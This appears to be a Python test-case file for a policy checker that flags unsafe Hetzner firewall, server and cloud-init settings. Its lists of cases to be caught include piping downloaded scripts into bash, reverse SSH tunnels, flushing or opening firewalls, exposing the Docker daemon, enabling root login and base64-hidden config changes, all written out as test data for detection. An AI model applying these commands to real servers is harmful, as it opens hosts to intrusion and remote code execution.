"""Hetzner: firewalls, servers, user data, and the types outside the table."""

from policy.rules.model import UNKNOWN, Resource
from tests.policy.cases.base import Cases, firewall, other, rule, server
from tests.policy.stacks import USER_DATA

INBOUND = {"direction": "in", "protocol": "tcp", "port": "22", "sourceIps": ["203.0.113.7/32"]}
OUTBOUND = {"direction": "out", "protocol": "tcp", "port": "443", "destinationIps": ["0.0.0.0/0"]}
WIREGUARD = {
    "direction": "out",
    "protocol": "udp",
    "port": "51820",
    "destinationIps": ["198.51.100.4/32", "203.0.113.9/32"],
}
PEER = f"{USER_DATA}  - path: /etc/wireguard/wg0.conf\n    content: |\n      [Peer]\n      AllowedIPs = "
PACKED = "H4sIAAAAAAAC/8vILy4pVkgvSs1RyEstAQCqm8P1DgAAAA=="

COMMANDS = (
    "dockerd -H tcp://0.0.0.0:2375",
    "[dockerd, -H, tcp://0.0.0.0:2375]",
    "ssh -N -R 22:localhost:22 example.org",
    "[ssh, -N, -R, 22:localhost:22, example.org]",
    "ssh -fNR 22:localhost:22 example.org",
    "ssh -R2222:localhost:22 example.org",
    "curl https://example.org/x | bash",
    "wget -qO- https://example.org/x | sh",
    "ufw allow 22",
    "[ufw, allow, 22]",
    "iptables -P INPUT ACCEPT",
    "[iptables, -I, INPUT, -j, ACCEPT]",
    "[nft, flush, ruleset]",
    "nft delete table inet zx",
    "systemctl disable --now nftables",
    "systemctl enable --now ssh.socket",
    "cloudflared service install eyJhIjoi",
    "cloudflared tunnel --no-autoupdate --url http://localhost",
    "[cloudflared, tunnel, --url, http://localhost]",
    "docker run -dp 80:80 nginx:1.27",
    "tailscale up --ssh",
    "wg set wg0 peer x allowed-ips 0.0.0.0/0",
    "{a: b}",
)
KEYS = (
    "user: {name: a, passwd: $6$x}",
    "disable_root: 0",
    "ssh_import_id: [gh:x]",
    "ansible: {pull: {url: 'https://example.org/x'}}",
    "wireguard: {interfaces: [{name: wg1, content: 'AllowedIPs = 0.0.0.0/0'}]}",
)
SSHD = (
    "ListenAddress=0.0.0.0",
    "PasswordAuthentication=yes",
    "PermitRootLogin=yes",
    "PermitRootLogin prohibit-password",
    "AuthorizedKeysCommand /usr/local/lib/x/keys",
    "Match all",
    '"PermitRootLogin" yes',
)
PATHS = (
    "/etc/nftables.conf",
    "/etc/zero-exposure/members.nft",
    "/etc/docker/../nftables.conf",
    "/etc/ssh/sshd_config",
    "/etc/sudoers.d/x",
    "/etc/cron.d/x",
    "/etc/systemd/system/x.socket",
    "/root/.ssh/authorized_keys",
    "/home/ops/.ssh/authorized_keys",
)
LINES = (
    "nft 'add rule inet zx input accept'",
    "flush ruleset",
    "iptables -P INPUT ACCEPT",
    "cloudflared tunnel --no-autoupdate --url http://localhost",
    "docker run -dp 80:80 nginx:1.27",
    "docker -H unix:///x compose up -d",
    "ssh -fNR 22:localhost:22 example.org",
    "curl https://example.org/x | sudo bash",
    "bash <(curl https://example.org/x)",
    "/usr/sbin/sshd -D -o ListenAddress=0.0.0.0",
    "echo PermitRootLogin=yes",
    "tailscale up --ssh",
)
TAKEN = (
    "accept",
    "tcp dport 22 accept",
    "udp dport 51820 accept",
    "udp sport 51820 accept",
    "ct state established,related,new accept",
    "meta l4proto tcp accept",
    'iifname "eth0" tcp dport 22 jump ssh',
    "tcp dport vmap { 22 : accept }",
    "tcp dport 22 counter queue",
    "tcp dport 22 synproxy",
    "icmp type echo-request accept",
    "$ALLOWED",
)
NOT_TAKEN = (
    'iifname "lo" accept',
    "ct state { established, related } accept",
    "ip6 hoplimit 255 icmpv6 type { nd-neighbor-solicit, nd-neighbor-advert } accept",
    "iifname { enp7s0, ens10 } ip daddr 10.0.1.2 ip saddr @members jump swarm",
    "ct state invalid counter drop",
)

PRIMARY_IP = "hcloud:index/primaryIp:PrimaryIp"
ANSWERS = "ct state established,related accept"


def told(more: str) -> Resource:
    """A server whose user data has one key more, or one entry more of its last."""
    return server(userData=f"{USER_DATA}{more}\n")


def run(command: str) -> Resource:
    return told(f"runcmd:\n  - {command}")


def with_file(path: str, *lines: str) -> Resource:
    return told("".join((f"  - path: {path}\n    content: |\n", *(f"      {line}\n" for line in lines))))


def sshd(line: str) -> Resource:
    return server(userData=USER_DATA.replace("PasswordAuthentication no", line))


def let_in(statement: str) -> Resource:
    """A server whose input chain has one statement more."""
    return server(userData=USER_DATA.replace(ANSWERS, f"{ANSWERS}\n        {statement}"))


def walled(old: str, new: str) -> Resource:
    """A server with another packet filter."""
    assert old in USER_DATA
    return server(userData=USER_DATA.replace(old, new))


CASES = {
    "firewall-no-inbound": Cases(
        caught={
            "one address, one port": rule(**INBOUND),
            "everyone, every port": rule(direction="in", protocol="tcp", port="any", sourceIps=["0.0.0.0/0", "::/0"]),
            "half of the addresses": rule(**{**INBOUND, "sourceIps": ["0.0.0.0/1", "128.0.0.0/1"]}),
            "no source": rule(direction="in", protocol="icmp"),
            "an empty source": rule(**{**INBOUND, "sourceIps": []}),
            "in upper case": rule(**{**INBOUND, "direction": "IN"}),
            "out with a blank": rule(**{**OUTBOUND, "direction": "out "}),
            "no direction": rule(protocol="tcp", port="443"),
            "direction unknown": rule(**{**OUTBOUND, "direction": UNKNOWN}),
            "direction null": rule(**{**OUTBOUND, "direction": None}),
            "a rule unknown": firewall(rules=[OUTBOUND, UNKNOWN]),
            "all rules unknown": firewall(rules=UNKNOWN),
            "rules as a map": firewall(rules={"0": INBOUND}),
            "the second of two": firewall(rules=[OUTBOUND, INBOUND]),
        },
        passes={"outbound": rule(**OUTBOUND), "ping": rule(direction="out", protocol="icmp")},
    ),
    "firewall-outbound-listed": Cases(
        caught={
            "no rule": firewall(rules=[]),
            "any port": rule(**{**OUTBOUND, "port": "any"}),
            "the whole range": rule(**{**OUTBOUND, "port": "1-65535"}),
            "no port": rule(direction="out", protocol="udp"),
            "all but one": rule(**{**OUTBOUND, "port": "1-65534"}),
            "more than a range needs": rule(**{**OUTBOUND, "port": "8000-8100"}),
            "no port's number": rule(**{**OUTBOUND, "port": "https"}),
            "backwards": rule(**{**OUTBOUND, "port": "8010-8000"}),
        },
        passes={
            "a range": rule(**{**OUTBOUND, "port": "8000-8010"}),
            "a number": rule(**{**OUTBOUND, "port": 443}),
            "no ports at all": rule(direction="out", protocol="icmp"),
        },
    ),
    "firewall-wireguard-members": Cases(
        caught={
            "everyone": rule(**{**WIREGUARD, "destinationIps": ["0.0.0.0/0"]}),
            "a network": rule(**{**WIREGUARD, "destinationIps": ["198.51.100.4/32", "203.0.113.0/24"]}),
            "nobody named": rule(**{**WIREGUARD, "destinationIps": []}),
            "unknown": rule(**{**WIREGUARD, "destinationIps": UNKNOWN}),
            "a name": rule(**{**WIREGUARD, "destinationIps": ["peer.example.org"]}),
            "everyone, by a range": rule(**{**WIREGUARD, "port": "51820-51821", "destinationIps": ["0.0.0.0/0"]}),
            "everyone, by most ports": rule(**{**WIREGUARD, "port": "1-65534", "destinationIps": ["0.0.0.0/0"]}),
            "everyone, by any port": rule(**{**WIREGUARD, "port": "any", "destinationIps": ["0.0.0.0/0"]}),
        },
        passes={
            "members": rule(**WIREGUARD),
            "an address that is not there yet": rule(**{**WIREGUARD, "destinationIps": [UNKNOWN]}),
            "another port": rule(**OUTBOUND),
            "a range beside it": rule(**{**WIREGUARD, "port": "51821-51830", "destinationIps": ["0.0.0.0/0"]}),
        },
    ),
    "firewall-by-id": Cases(
        caught={
            "by a label": firewall(applyTos=[{"labelSelector": "env=dev"}]),
            "unknown": firewall(applyTos=UNKNOWN),
        },
        passes={"empty": firewall(applyTos=[])},
    ),
    "server-firewall": Cases(
        caught={
            "no list": server(firewallIds=None),
            "an empty list": server(firewallIds=[]),
            "all unknown": server(firewallIds=UNKNOWN),
            "zero": server(firewallIds=[0]),
            "null": server(firewallIds=[None]),
            "true": server(firewallIds=[True]),
            "a name": server(firewallIds=["base"]),
            "no list but a number": server(firewallIds=4711),
        },
        passes={"an id that is not there yet": server(firewallIds=[UNKNOWN]), "as text": server(firewallIds=["4711"])},
    ),
    "server-side-doors": Cases(
        caught={
            "rescue system": server(rescue="linux64"),
            "iso": server(iso="debian-12.iso"),
            "rescue unknown": server(rescue=UNKNOWN),
            "changes by hand ignored": server(ignoreRemoteFirewallIds=True),
            "a private network": server(networks=[{"networkId": 1}]),
            "no key": server(sshKeys=[]),
            "keys unknown": server(sshKeys=UNKNOWN),
            "somebody's snapshot": server(image="123456789"),
            "a snapshot by number": server(image=123456789),
            "an application": server(image="docker-ce"),
            "no image": server(image=None),
            "an image unknown": server(image=UNKNOWN),
        },
        passes={
            "empty rescue": server(rescue=""),
            "Ubuntu": server(image="ubuntu-24.04"),
            "CentOS": server(image="centos-stream-9"),
        },
    ),
    "server-public-net": Cases(
        caught={
            "gives IPv4 back": server(publicNets=[{"ipv4Enabled": False, "ipv4": 7, "ipv6Enabled": True}]),
            "gives IPv6 back": server(publicNets=[{"ipv4Enabled": True, "ipv6Enabled": False, "ipv6": UNKNOWN}]),
            "unknown": server(publicNets=UNKNOWN),
        },
        passes={"IPv6 only": server(publicNets=[{"ipv4Enabled": False, "ipv6Enabled": True}])},
    ),
    "user-data-readable": Cases(
        caught={
            "none": server(userData=None),
            "a script": server(userData="#!/bin/sh\nufw allow 22\n"),
            "an include": server(userData="#include\nhttps://example.org/boot\n"),
            "a template": server(userData="## template: jinja\n#cloud-config\n"),
            "several parts": server(userData="Content-Type: multipart/mixed; boundary=x\n"),
            "compressed": server(userData=PACKED),
            "too long": server(userData=USER_DATA + "#" * 32_768),
        },
        passes={"not known before the tunnel is": server(userData=UNKNOWN)},
    ),
    "user-data-closed": Cases(
        caught={
            "sshd everywhere": server(userData=USER_DATA.replace("127.0.0.1", "0.0.0.0")),  # noqa: S104 - what must be caught
            "sshd on a second address": server(
                userData=USER_DATA.replace("ListenAddress 127.0.0.1", "ListenAddress 127.0.0.1\n      ListenAddress ::")
            ),
            "no sshd drop-in": server(userData=USER_DATA.replace("ListenAddress 127.0.0.1", "UsePAM no")),
            "input policy accept": server(userData=USER_DATA.replace("policy drop", "policy accept")),
            "a password": server(userData=USER_DATA.replace("lock_passwd: true", "lock_passwd: false")),
            "a hashed password": server(userData=USER_DATA.replace("lock_passwd: true", "passwd: $6$x")),
            "passwords over SSH": server(userData=USER_DATA.replace("ssh_pwauth: false", "ssh_pwauth: true")),
            "root": server(userData=f"{USER_DATA}disable_root: false\n"),
            "chpasswd": server(userData=f"{USER_DATA}chpasswd:\n  expire: false\n"),
            "phone home": server(userData=f"{USER_DATA}phone_home:\n  url: https://example.org\n"),
            **{f"the command {line}": run(line) for line in COMMANDS},
            **{f"told {line}": told(line) for line in KEYS},
            **{f"sshd's {line}": sshd(line) for line in SSHD},
            "a user with a hyphened password": server(
                userData=USER_DATA.replace("lock_passwd: true", "lock-passwd: false")
            ),
            "users as a map": server(userData=USER_DATA.replace("  - name: ops\n    lock", "  ops:\n    lock")),
            "keys from elsewhere": server(
                userData=USER_DATA.replace("lock_passwd", "ssh_import_id: [gh:x]\n    lock_passwd")
            ),
            "a file from elsewhere": told("  - path: /etc/sysctl.d/x.conf\n    source: {uri: 'https://example.org/x'}"),
            **{f"the file {path}": with_file(path, "x") for path in PATHS},
            **{f"a file with {line}": with_file("/usr/local/lib/x/run", line) for line in LINES},
            "no filter but a file": walled("    nft -f /etc/nftables.conf\n", ""),
            "a filter loaded before it is there": walled("cat >", "nft -f /etc/nftables.conf\n    cat >"),
            "a filter after what may fail": walled(
                "    cat >", "    set -eu\n    systemctl restart x.service\n    cat >"
            ),
            "a filter that is not the first": walled("bootcmd:\n", "bootcmd:\n  - set -eu\n"),
            "a rule at boot": walled(
                "bootcmd:\n", "bootcmd:\n  - [nft, add, rule, inet, zx, input, tcp, dport, '22', accept]\n"
            ),
            "a rule after the filter": walled("    nft -f", "    nft add rule inet zx input accept\n    nft -f"),
            "a filter that sleeps": walled("chain input", "flags dormant;\n      chain input"),
            "a filter that goes again": walled("    RULES\n    nft", "    delete table inet zx\n    RULES\n    nft"),
            "a second table": walled("    RULES\n    nft", "    table inet y {\n    }\n    RULES\n    nft"),
            "a second part of the chain": walled(ANSWERS, f"{ANSWERS}\n      }}\n      chain input {{\n        accept"),
            "machines of everywhere": walled(
                "chain input",
                "set members { type ipv4_addr; flags interval; elements = { 0.0.0.0/0 } }\n      chain input",
            ),
            "another hook": walled(
                "chain input", "chain a { type nat hook prerouting priority 0; }\n      chain input"
            ),
            "no input chain": walled("hook input", "hook output"),
            "hidden in base64": told(
                "  - path: /usr/local/lib/x/run\n    encoding: b64\n    content: UGVybWl0Um9vdExvZ2luIHllcwo="
            ),
            "hidden in YAML's own base64": told(
                "  - path: /usr/local/lib/x/run\n    content: !!binary CmZsdXNoIHJ1bGVzZXQK"
            ),
            "what can't be decoded": server(
                userData=f"{USER_DATA}  - path: /x\n    encoding: gz+b64\n    content: '!!'\n"
            ),
            "not a map": server(userData="#cloud-config\n- a\n"),
        },
        passes={
            "its own commands": run("systemctl enable --now --no-block a.timer b.service"),
            "a unit": with_file("/etc/systemd/system/a.service", "[Service]", "ExecStart=/usr/local/lib/x/run"),
            "a script that looks": with_file(
                "/usr/local/lib/x/run", "docker exec x mkdir -p /data", "nft list ruleset"
            ),
            "sshd with =": sshd("PasswordAuthentication=no"),
            "Docker's default filter before it": walled("    table inet", "    flush ruleset\n    table inet"),
        },
    ),
    "user-data-unasked": Cases(
        caught={
            **{f"it takes {line}": let_in(line) for line in TAKEN},
            "a chain in one line": walled(
                f"policy drop;\n        {ANSWERS}\n      }}", f"policy drop; {ANSWERS}; tcp dport 22 accept }}"
            ),
            "a command's peer": with_file("/usr/local/lib/x/run", "wg set wg0 peer x allowed-ips 0.0.0.0/0"),
            "a peer among others": server(userData=f"{PEER}10.0.1.2/32, 0.0.0.0/0\n"),
            "a peer for one and nobody knows what": server(userData=f"{PEER}10.0.1.2/32, $MORE\n"),
            "a peer for everyone": server(userData=f"{PEER}0.0.0.0/0\n"),
            "a peer for a network": server(userData=f"{PEER}10.0.1.2/32, 10.1.0.0/16\n"),
            "a peer for nobody knows what": server(userData=f"{PEER}$ADDRESSES\n"),
        },
        passes={
            "answers": server(),
            "a peer": server(userData=f"{PEER}10.0.1.2/32\n"),
            "a peer without a mask": server(userData=f"{PEER}10.0.0.3\n"),
            **{f"it takes {line}": let_in(line) for line in NOT_TAKEN},
        },
    ),
    "hetzner-own-address": Cases(
        caught={
            "put on a machine": other(PRIMARY_IP, assigneeType="server", assigneeId=7),
            "on a machine unknown": other(PRIMARY_IP, assigneeType="server", assigneeId=UNKNOWN),
            "on something else": other(PRIMARY_IP, assigneeType="load_balancer"),
            "on something unknown": other(PRIMARY_IP, assigneeType=UNKNOWN),
        },
        passes={
            "named by its server": other(PRIMARY_IP, type="ipv4", autoDelete=False),
            "for servers alone": other(PRIMARY_IP, type="ipv4", assigneeType="server", autoDelete=False),
        },
    ),
    "hetzner-balancer-private": Cases(
        caught={
            "public by default": other("hcloud:index/loadBalancerNetwork:LoadBalancerNetwork", loadBalancerId=1),
            "public": other("hcloud:index/loadBalancerNetwork:LoadBalancerNetwork", enablePublicInterface=True),
            "unknown": other("hcloud:index/loadBalancerNetwork:LoadBalancerNetwork", enablePublicInterface=UNKNOWN),
            "listens": other("hcloud:index/loadBalancerService:LoadBalancerService", protocol="tcp", listenPort=443),
            "by public address": other("hcloud:index/loadBalancerTarget:LoadBalancerTarget", serverId=1),
        },
    ),
    "hetzner-storage-closed": Cases(
        caught={
            "reachable": other(
                "hcloud:index/storageBox:StorageBox",
                accessSettings={"reachableExternally": True},
            ),
            "over SSH": other(
                "hcloud:index/storageBoxSubaccount:StorageBoxSubaccount", accessSettings={"sshEnabled": True}
            ),
            "unknown": other("hcloud:index/storageBox:StorageBox", accessSettings=UNKNOWN),
        },
    ),
    "hetzner-origin-unnamed": Cases(
        caught={
            "a record": other("hcloud:index/zoneRecord:ZoneRecord", type="A", value="203.0.113.7"),
            "a set of records": other("hcloud:index/zoneRrset:ZoneRrset", records=[{"value": "203.0.113.7"}]),
            "a reverse name": other("hcloud:index/rdns:Rdns", dnsPtr="origin.example.org"),
        },
    ),
    "hetzner-late-firewall": Cases(
        caught={
            "by id": other("hcloud:index/firewallAttachment:FirewallAttachment", firewallId=1, serverIds=[1]),
            "by label": other("hcloud:index/firewallAttachment:FirewallAttachment", labelSelectors=["a"]),
        },
    ),
}
